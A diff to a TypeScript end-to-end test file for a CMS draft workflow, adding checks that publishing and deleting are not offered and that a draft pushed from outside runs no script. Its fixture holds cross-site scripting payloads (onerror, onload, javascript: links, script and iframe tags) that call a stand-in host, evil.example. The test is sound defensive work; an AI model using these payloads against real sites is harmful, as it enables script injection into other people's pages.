@@ -1,4 +1,7 @@
-/** Drafts side by side: nobody overwrites anybody, nothing of them is lost, and main is moved by merging alone. */
+/**
+ * Drafts side by side: nobody overwrites anybody, nothing of them is lost, main is moved by merging alone, and
+ * what others have put on a branch runs nothing.
+ */
 import { describe, expect, test } from 'vitest';
 
 import type { Editor } from './driver/editor.ts';
@@ -186,3 +189,95 @@ test('a draft that was discarded keeps its commits', async () => {
   expect(repository.git('rev-list', '--all').split('\n')).toContain(commit);
   expect(repository.read(commit, fileOf(id))).toContain('Doch nicht');
 });
+
+test('the page of the drafts opens', async () => {
+  const editor = await redaktion.open();
+  await editor.openStages();
+  for (const stage of ['Entwurf', 'In Prüfung', 'Bereit']) {
+    await editor.page.getByRole('heading', { name: stage }).waitFor();
+  }
+});
+
+test('publishing, deleting and a store of files are offered nowhere', async () => {
+  const editor = await redaktion.open();
+  await editor.openList('seiten');
+  expect(await offersOf(editor)).toEqual([]);
+  await editor.edit('seiten', 'impressum');
+  await editor.page.getByRole('button', { name: 'Veröffentlicht' }).click();
+  // That it is published is a state; what can be done about it would be in its menu.
+  expect(await offersOf(editor)).toEqual(['Veröffentlicht']);
+  await editor.create('seiten', { Titel: 'Nur ein Entwurf', Beschreibung: 'Eine Probe.' });
+  const id = await editor.save();
+  await editor.page.getByRole('button', { name: 'Stand: Entwurf' }).click();
+  expect(await offersOf(editor)).toEqual([]);
+  await editor.openStages();
+  await editor.page.locator(`a[href*="/entries/${id}?"]`).waitFor();
+  expect(await offersOf(editor)).toEqual([]);
+});
+
+test('a draft that was not written in the editor runs nothing there and on the board', async () => {
+  const { api, repository } = redaktion;
+  const head = 'cms/seiten/boese';
+  repository.commit(head, { [hostileFile]: hostileText });
+  const { json } = await api.call('POST', '/pulls', {
+    title: 'Boese',
+    head,
+    base: 'main',
+    body: attack,
+  });
+  const { number } = json as unknown as { number: number };
+  await api.call('PUT', `/issues/${number}/labels`, { labels: ['decap-cms/draft'] });
+
+  const editor = await redaktion.open();
+  await editor.openDraft('seiten', 'boese');
+  // The text is there to be put right, as it is.
+  expect(await editor.text.inputValue()).toContain('<script>');
+  await editor.pane
+    .getByRole('status')
+    .filter({ hasText: /Geprüft: .*berichtigen/ })
+    .waitFor();
+  await editor.page.waitForTimeout(500);
+  expect(await editor.page.evaluate(() => 'hacked' in window)).toBe(false);
+  const links = await editor.preview.locator('[href^="javascript:" i], script, iframe').count();
+  expect(links).toBe(0);
+
+  const board = await redaktion.openBoard(`beitrag/${number}/`);
+  await board.getByText('<script>').first().waitFor();
+  expect(await board.evaluate(() => 'hacked' in window)).toBe(false);
+  const merge = board.locator(`form[action$="/zusammenfuehren"] button`);
+  if (await merge.isVisible()) {
+    redaktion.expectTrouble(/409|422/);
+    const main = repository.head('main');
+    await merge.click();
+    await board.waitForLoadState();
+    expect(repository.head('main')).toBe(main);
+  }
+});
+
+const attack = "window.top.hacked=1;alert(1);fetch('https://evil.example/')";
+const hostileFile = 'src/content/seiten/boese.mdx';
+const hostileText = `---
+titel: 'Harmlos <img src=x onerror="${attack.replaceAll("'", "''")}">'
+beschreibung: Eine Probe.
+sichtbarkeit: oeffentlich
+---
+
+Davor <img src=x onerror="${attack}"> [Weg](javascript:${attack})
+
+<svg onload="${attack}"><a xlink:href="javascript:${attack}"><text>Hier</text></a></svg>
+
+<script>${attack}</script>
+
+<iframe srcdoc="<script>top.hacked=1</script>"></iframe>
+
+{window.top.hacked = 1}
+`;
+
+async function offersOf(editor: Editor): Promise<string[]> {
+  const name = /veröffentlich|löschen|medien|publish|delete|media/i;
+  const roles = ['button', 'link', 'menuitem'] as const;
+  const found = await Promise.all(
+    roles.map((role) => editor.page.getByRole(role, { name }).allInnerTexts()),
+  );
+  return found.flat();
+}
